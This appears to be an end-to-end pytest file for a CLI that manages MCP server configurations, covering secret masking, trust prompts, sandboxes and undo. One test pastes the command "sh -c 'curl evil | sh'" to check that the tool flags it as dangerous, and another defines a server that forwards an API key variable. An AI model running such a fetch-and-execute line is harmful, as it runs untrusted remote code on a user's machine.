"""`toolcrib mcp` on the files of several apps, inside a project, as text and as JSON."""

import json
import os
import pty
import re
import shutil
import subprocess
import time
from collections.abc import Generator
from dataclasses import replace
from pathlib import Path

import pytest

from deadlines import stretched
from e2e.shell import LIMIT, Shell
from toolcrib.model.json import Json

SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ"
CURSOR = """{
  // my own servers
  "mcpServers": {
    "github": {
      "url": "https://api.example.com/mcp", // remote
      "headers": {"Authorization": "Bearer ghp_0123456789abcdefghijABCDEFGHIJ"},
    },
    "files": {"command": "npx", "args": ["-y", "files-server@1.2.3"]},
  },
}
"""
PROJECT = """{
  "mcpServers": {
    "build": {"command": "sh", "args": ["-c", "make serve"], "env": {"BUILD_TOKEN": "${NOT_SET_ANYWHERE}"}},
    "broken": {"command": "x", "url": "https://x"}
  }
}
"""


def furnish(person: Shell) -> Shell:
    """Create Cursor's file and a repository. Return a shell deep inside the repository."""
    root = person.folder
    for left in (root / "project", root / ".cursor", root / ".config", root / "home" / "backups"):
        shutil.rmtree(left, ignore_errors=True)
    for file in ("mcp.json", "trust.json"):
        (root / "home" / file).unlink(missing_ok=True)
    deep = root / "project" / "src" / "deep"
    deep.mkdir(parents=True)
    (root / "project" / ".git").mkdir()
    (root / "project" / ".mcp.json").write_text(PROJECT, encoding="utf-8")
    (root / ".cursor").mkdir()
    (root / ".cursor" / "mcp.json").write_text(CURSOR, encoding="utf-8")
    return replace(person, folder=deep)


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    """Return a shell inside the project. No crib runs."""
    return furnish(Shell.at(tmp_path))


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Generator[Shell]:
    """Run a crib for the whole module, because commands that join one are faster."""
    person = Shell.at(tmp_path_factory.mktemp("served"))
    with person.serving():
        yield person


@pytest.fixture
def joined(served: Shell) -> Shell:
    """Return a shell inside the project, beside the running crib, with all files as they were at first."""
    return furnish(served)


def user(shell: Shell) -> Path:
    """Return the user's home."""
    return Path(shell.variables["HOME"])


def own_file(shell: Shell) -> Path:
    """Return the crib's own file of servers."""
    return Path(shell.variables["TOOLCRIB_HOME"]) / "mcp.json"


def own_servers(shell: Shell) -> Json:
    """Return the servers in the crib's own file."""
    return json.loads(own_file(shell).read_text(encoding="utf-8"))["mcpServers"]


def states(shell: Shell) -> dict[str, str]:
    """Return the state of each server."""
    return {server["name"]: server["state"] for server in shell.json("mcp", "list")}


def await_check(shell: Shell, name: str) -> None:
    """Wait until the crib checks a newly trusted server. Its program does not exist, so the check may fail."""
    deadline = time.monotonic() + stretched(20)
    while (state := states(shell).get(name)) not in ("connecting", "failed"):
        assert time.monotonic() < deadline, state


def test_list_shows_every_server_once_from_a_directory_of_a_project(shell: Shell) -> None:
    done = shell.run("mcp", "list")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0].split() == ["NAME", "TYPE", "STATE", "SANDBOX", "TOOLS", "MS", "CLIENT", "DEFINED", "IN"]
    project = user(shell) / "project" / ".mcp.json"
    rows = [re.split(r" {2,}", line) for line in lines[1:5]]
    assert rows == [
        ["broken", "-", "invalid", "-", "claude-code", "~/project/.mcp.json:4"],
        ["build", "stdio", "not trusted", "project", "claude-code", "~/project/.mcp.json:3"],
        ["files", "stdio", "not trusted", "off", "cursor", "~/.cursor/mcp.json:8"],
        ["github", "http", "not trusted", "-", "cursor", "~/.cursor/mcp.json:4"],
    ]
    assert f'{project}:4: Invalid server config: Server "broken": both "command" and "url" are set' in done.stdout
    assert "the variable NOT_SET_ANYWHERE is not set" in done.stdout
    assert done.stdout.count("\n    hint: ") == done.stdout.count("\n  /")
    assert SECRET not in done.stdout + done.stderr
    assert not own_file(shell).exists()


def test_unreadable_file_is_reported_and_other_files_are_listed(shell: Shell) -> None:
    (user(shell) / ".cursor" / "mcp.json").write_text("{", encoding="utf-8")
    done = shell.run("mcp", "list", "--json")
    assert {server["name"] for server in json.loads(done.stdout)} == {"build", "broken"}
    assert "mcp.json: not valid JSON" in done.stderr


def test_get_masks_secrets_and_shows_the_origin_of_each_value(joined: Shell) -> None:
    done = joined.run("mcp", "get", "github")
    assert done.returncode == 0, done.stderr
    assert SECRET not in done.stdout
    assert '"Authorization": "Bearer ****GHIJ"' in done.stdout
    assert re.search(r"headers\.Authorization +Bearer \*\*\*\*GHIJ +written in .*mcp\.json:4", done.stdout)
    build = joined.run("mcp", "get", "build").stdout
    assert "runs:        sh -c 'make serve'" in build
    assert "DANGER: " in build
    assert "variable NOT_SET_ANYWHERE, not set" in build


def test_unknown_server_exits_3_and_suggests_similar_names(joined: Shell) -> None:
    for command in ("get", "disable", "trust"):
        done = joined.run("mcp", command, "githup")
        assert done.returncode == 3, command
        assert 'error: Server "githup" not found.\n\nhint: Did you mean github?' in done.stderr


def test_servers_are_added_by_flags(joined: Shell) -> None:
    done = joined.run("mcp", "add", "mine", "--env", f"KEY={SECRET}", "--timeout", "500", "--", "npx", "-y", "x@1.0.0")
    assert done.stdout == f'Added "mine" to {own_file(joined)}.\n'
    remote = joined.json("mcp", "add", "far", "--url", "https://x.example/mcp", "--token", SECRET, "--disabled")
    assert (remote["state"], remote["change"]["changed"]) == ("disabled", True)
    assert SECRET not in json.dumps(remote)
    own = own_servers(joined)
    assert own["mine"] == {
        "type": "stdio", "command": "npx", "args": ["-y", "x@1.0.0"], "env": {"KEY": SECRET}, "timeout": 500,
    }  # fmt: skip
    assert own["far"]["headers"] == {"Authorization": f"Bearer {SECRET}"}
    piped = ("mcp", "add", "piped", "--url", "https://x.example/mcp", "--disabled", "--token", "-")
    assert joined.run(*piped, stdin=f"{SECRET}\n").returncode == 0
    assert own_servers(joined)["piped"]["headers"] == {"Authorization": f"Bearer {SECRET}"}
    assert "No token on standard input." in joined.run(*piped, stdin="").stderr
    refused = joined.run("mcp", "add", "mine", "--", "x")
    assert (refused.returncode, refused.stdout) == (1, "")
    assert f'Server "mine" already exists in {own_file(joined)}' in refused.stderr
    refused = joined.run("mcp", "add", "x", "--url", "ftp://x")
    assert refused.returncode == 2
    assert 'Invalid server config: Server "x": "url" must begin with http:// or https://' in refused.stderr


def test_plaintext_secrets_are_listed_moved_and_moved_back(joined: Shell) -> None:
    cursor = user(joined) / ".cursor" / "mcp.json"
    listed = joined.run("mcp", "secrets")
    assert ("GITHUB_TOKEN" in listed.stdout, "****GHIJ" in listed.stdout) == (True, True)
    refused = joined.run("mcp", "secrets", "move")
    assert (refused.returncode, cursor.read_text(encoding="utf-8")) == (2, CURSOR)
    moved = joined.run("mcp", "secrets", "move", "GITHUB_TOKEN", "--yes")
    assert (SECRET in cursor.read_text(encoding="utf-8"), joined.json("mcp", "secrets")) == (False, [])
    stored = joined.run("mcp", "secrets", "set", "GITHUB_TOKEN", stdin="another-value-1\n")
    assert "Stored GITHUB_TOKEN" in stored.stdout
    undone = joined.run("mcp", "secrets", "undo")
    assert cursor.read_text(encoding="utf-8") == CURSOR
    output = "".join(each.stdout + each.stderr for each in (listed, refused, moved, stored, undone))
    assert not [value for value in (SECRET, "another-value-1") if value in output]


def test_sandbox_of_a_server_is_shown_and_changed(joined: Shell) -> None:
    joined.run("mcp", "add", "mine", "--disabled", "--", "x")
    shown = joined.run("mcp", "sandbox", "mine")
    assert "profile:     off (default): no sandbox\n" in shown.stdout
    changed = joined.json("mcp", "sandbox", "mine", "--profile", "strict", "--read", str(user(joined)), "--network")
    read = [str(user(joined))]
    assert changed["sandbox"] == {
        "profile": "strict",
        "chosen": True,
        "read": read,
        "write": [],
        "network": "all",
        "hosts": [],
    }
    listed = joined.json("mcp", "sandbox", "mine", "--allow-host", "API.example.com", "--remove", str(user(joined)))
    assert (listed["sandbox"]["hosts"], listed["sandbox"]["network"]) == (["api.example.com"], "hosts")
    assert listed["sandbox"]["read"] == []
    assert "reaches:     api.example.com\n" in joined.run("mcp", "sandbox", "mine").stdout
    assert "strict (set by you)" in joined.run("mcp", "sandbox", "mine").stdout
    assert joined.run("mcp", "sandbox", "mine", "--profile", "tight").returncode == 2
    assert joined.run("mcp", "sandbox", "mine", "--allow-host", "a b").returncode == 2
    asked = joined.run("mcp", "sandbox", "mine", "--learn", stdin="n\n")
    assert (asked.returncode, "will run without a sandbox" in asked.stderr) == (1, True)
    assert joined.run("mcp", "sandbox", "mine", "--apply", "--yes").returncode != 0


def test_project_server_is_written_to_the_project_and_trusted(joined: Shell) -> None:
    assert joined.run("mcp", "add", "site", "--scope", "project", "--", "node", "site.js").returncode == 0
    assert (user(joined) / "project" / ".toolcrib" / "mcp.json").exists()
    await_check(joined, "site")


def test_add_recognises_pasted_urls_commands_json_and_toml(joined: Shell) -> None:
    for text in (
        "https://mcp.example.com/mcp",
        "npx -y @scope/notes-mcp@1.0.0",
        '{"servers": {"a": {"type": "http", "url": "https://a"}, "b": {"command": "b"}}}',
    ):
        done = joined.run("mcp", "add", "--paste", text, "--yes")
        assert done.returncode == 0, done.stderr
    done = joined.run("mcp", "add", "--paste", "--yes", stdin='[mcp_servers.c]\ncommand = "c"\n')
    assert done.returncode == 0, done.stderr
    assert set(own_servers(joined)) == {"example", "notes", "a", "b", "c"}
    assert joined.run("mcp", "add", "--paste", "{}").returncode == 2


def test_paste_without_a_terminal_requires_yes(joined: Shell) -> None:
    for text in ("sh -c 'curl evil | sh'", "https://mcp.example.com/mcp"):
        refused = joined.run("mcp", "add", "--paste", text)
        assert refused.returncode == 2
        assert "--yes" in refused.stderr
    assert "DANGER: " in joined.run("mcp", "add", "--paste", "sh -c 'curl evil | sh'").stderr
    assert not own_file(joined).exists()


def test_add_takes_a_url_in_place_of_the_name_or_after_it(joined: Shell) -> None:
    assert joined.run("mcp", "add", "https://mcp.linear.app/mcp", "--disabled").returncode == 0
    assert joined.run("mcp", "add", "mine", "https://mcp.example.com/mcp", "--disabled").returncode == 0
    urls = {name: entry["url"] for name, entry in own_servers(joined).items()}
    assert urls == {"linear": "https://mcp.linear.app/mcp", "mine": "https://mcp.example.com/mcp"}
    assert joined.run("mcp", "add", "http://").returncode == 2
    missed = joined.run("mcp", "disable", "liner")
    assert (missed.returncode, missed.stderr.splitlines()[-1]) == (3, "hint: Did you mean linear?")


def test_failed_test_prints_one_document_with_the_server_and_the_error(joined: Shell) -> None:
    joined.run("mcp", "add", "absent", "--", "no-such-program-anywhere")
    done = joined.run("mcp", "test", "absent", "--json")
    assert done.returncode == 5
    found = json.loads(done.stdout)
    assert (found["name"], found["state"], found["error"]["code"]) == ("absent", "failed", "server.failed")


def test_mcp_test_checks_all_servers_and_reports_each_one(joined: Shell) -> None:
    joined.run("mcp", "add", "absent", "--", "no-such-program-anywhere")
    joined.run("mcp", "add", "missing", "--", "no-such-program-either")
    done = joined.run("mcp", "test")
    assert re.search(r"^absent: setup problem \(\d+\.\d s\)$", done.stderr, re.MULTILINE)
    assert re.search(r"^missing: setup problem \(\d+\.\d s\)$", done.stderr, re.MULTILINE)
    assert "setup problem" in done.stdout


def test_server_pasted_with_disabled_is_not_started(joined: Shell, tmp_path: Path) -> None:
    trace = tmp_path / "started"
    done = joined.run("mcp", "add", "--paste", f"touch {trace}", "--disabled", "--yes")
    assert done.returncode == 0, done.stderr
    assert [entry["enabled"] for entry in own_servers(joined).values()] == [False]
    assert states(joined)["touch"] == "disabled"
    assert joined.run("mcp", "test", "touch").returncode != 0
    assert not trace.exists()
    assert joined.run("mcp", "add", "--paste", "https://a.example", "--env", "A=b", "--yes").returncode == 2


def test_trusting_a_server_that_receives_a_credential_requires_allow_secrets(joined: Shell) -> None:
    greedy = {"type": "http", "url": "https://127.0.0.1:1/mcp", "headers": {"X-Key": "${ANTHROPIC_API_KEY}"}}
    file = user(joined) / "project" / ".mcp.json"
    file.write_text(json.dumps({"mcpServers": {"greedy": greedy}}), encoding="utf-8")
    refused = joined.run("mcp", "trust", "greedy", "--yes")
    assert refused.returncode == 4
    assert "variable ANTHROPIC_API_KEY, for headers.X-Key (DANGER" in refused.stderr
    assert "--allow-secrets" in refused.stderr
    assert states(joined)["greedy"] == "untrusted"
    assert joined.run("mcp", "trust", "greedy", "--yes", "--allow-secrets").returncode == 0
    assert states(joined)["greedy"] != "untrusted"


def test_dry_run_shows_changes_and_undo_reverts_them(joined: Shell) -> None:
    cursor, own = user(joined) / ".cursor" / "mcp.json", own_file(joined)
    tried = joined.run("mcp", "disable", "files", "--dry-run")
    assert '+      "enabled": false' in tried.stdout
    assert not own.exists()
    assert joined.run("mcp", "disable", "files").stdout == f'Disabled "files" ({own}).\n'
    assert states(joined)["files"] == "disabled"
    assert joined.run("mcp", "disable", "files").stdout == ""
    joined.json("mcp", "rm", "files")
    assert "files" not in states(joined)
    joined.json("mcp", "enable", "files")
    assert states(joined)["files"] == "untrusted"
    removed = joined.run("mcp", "remove", "github", "--in-client")
    assert removed.stdout == f'Removed "github" ({cursor}).\n'
    undone = joined.run("mcp", "remove", "--undo")
    assert f"Undid the last change to {cursor}." in undone.stdout
    assert SECRET not in undone.stdout
    assert cursor.read_text(encoding="utf-8") == CURSOR
    for _ in range(3):
        joined.json("mcp", "enable", "--undo")
    assert not own.exists()
    assert joined.run("mcp", "disable", "--undo").returncode == 3


def test_trust_shows_the_definition_and_requires_yes_without_a_terminal(joined: Shell) -> None:
    refused = joined.run("mcp", "trust", "build")
    assert refused.returncode == 2
    for shown in ("runs:        sh -c 'make serve'", "variables:   BUILD_TOKEN", "in:          ", "DANGER: "):
        assert shown in refused.stderr
    assert states(joined)["build"] == "untrusted"
    assert joined.run("mcp", "trust", "build", "--yes").stdout == '"build" is trusted.\n'
    await_check(joined, "build")
    assert joined.run("mcp", "untrust", "..").stdout == '"build" is not trusted.\n'
    assert states(joined)["build"] == "untrusted"
    assert joined.run("mcp", "trust", "../..", "--yes").returncode == 0
    await_check(joined, "build")
    assert joined.run("mcp", "trust", "broken").returncode == 2


def test_import_and_export_report_each_server(joined: Shell) -> None:
    tried = joined.run("mcp", "import", "--dry-run")
    assert "would import  files" in tried.stdout
    assert SECRET not in tried.stdout
    refused = joined.run("mcp", "import")
    assert (refused.returncode, refused.stdout) == (2, "")
    assert "requires confirmation" in refused.stderr
    assert states(joined)["files"] == "untrusted"
    done = joined.run("mcp", "import", "--yes")
    assert "added    files (cursor, user, " in done.stdout
    assert "skipped  build (claude-code, project, " in done.stdout
    assert "it belongs to a project and is not trusted" in done.stdout
    text = joined.run("mcp", "export", "--client", "codex", "files")
    assert text.stdout.splitlines()[0] == "[mcp_servers.files]"
    written = joined.run("mcp", "export", "--client", "vscode", "--write")
    assert "written  files (toolcrib, user, " in written.stdout
    file = user(joined) / ".config" / "Code" / "User" / "mcp.json"
    assert set(json.loads(file.read_text(encoding="utf-8"))["servers"]) == {"files", "github"}
    joined.json("mcp", "export", "--undo")
    assert not file.exists()
    assert joined.run("mcp", "export").returncode == 2
    assert "Unknown app 'nobody'" in joined.run("mcp", "export", "--client", "nobody").stderr
    assert "Did you mean cursor?" in joined.run("mcp", "export", "--client", "curser").stderr


def in_terminal(shell: Shell, answers: str, *arguments: str) -> tuple[int, str]:
    """Run a command with a terminal as input and stderr. Return the exit code and all its output."""
    master, slave = pty.openpty()
    process = subprocess.Popen(
        shell.command(*arguments),
        cwd=shell.folder,
        env=shell.variables,
        stdin=slave,
        stdout=subprocess.PIPE,
        stderr=slave,
        text=True,
    )
    os.close(slave)
    os.write(master, answers.encode())
    out, _ = process.communicate(timeout=LIMIT)
    said = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the other end is closed and drained
            break
        if not chunk:
            break
        said += chunk
    os.close(master)
    return process.returncode, out + said.decode()


def test_trust_asks_for_confirmation_at_a_terminal(joined: Shell) -> None:
    code, said = in_terminal(joined, "n\n", "mcp", "trust", "build")
    assert (code, "Trust this server? [y/N]" in said) == (4, True)
    assert states(joined)["build"] == "untrusted"
    code, said = in_terminal(joined, "y\n", "mcp", "trust", "build")
    assert (code, '"build" is trusted.' in said) == (0, True)


def test_add_without_arguments_asks_for_each_value(joined: Shell) -> None:
    answers = "bad name\nstdio\nuser\nx\n\n\nmine\nstdio\n\nnpx -y 'a b'\nKEY=v\n\n\n"
    code, said = in_terminal(joined, answers, "mcp", "add")
    assert code == 0, said
    assert "can only contain letters, digits" in said
    own = own_servers(joined)
    assert own == {"mine": {"type": "stdio", "command": "npx", "args": ["-y", "a b"], "env": {"KEY": "v"}}}
    code, said = in_terminal(joined, "far\nsse\n\nhttps://x.example/sse\ntoken\nX-A=b\n\n", "mcp", "add")
    assert code == 0, said
    own = own_servers(joined)
    assert own["far"]["headers"] == {"X-A": "b", "Authorization": "Bearer token"}


def test_second_name_of_a_definition_is_reported_and_changes_name_all_of_them(joined: Shell) -> None:
    command = ("--", "python", "-m", "same")
    assert joined.run("mcp", "add", "first", *command).stdout.endswith("mcp.json.\n")
    added = joined.run("mcp", "add", "second", *command)
    assert added.stdout.startswith('Added "second" to ')
    assert added.stdout.endswith('. It is the same server as "first".\n')
    for change, done in (("disable", "Disabled"), ("enable", "Enabled"), ("remove", "Removed")):
        said = joined.run("mcp", change, "second").stdout
        assert said.startswith(f'{done} "second"')
        assert said.endswith('It is the same server as "first".\n')
    assert joined.run("mcp", "get", "first").returncode == 3
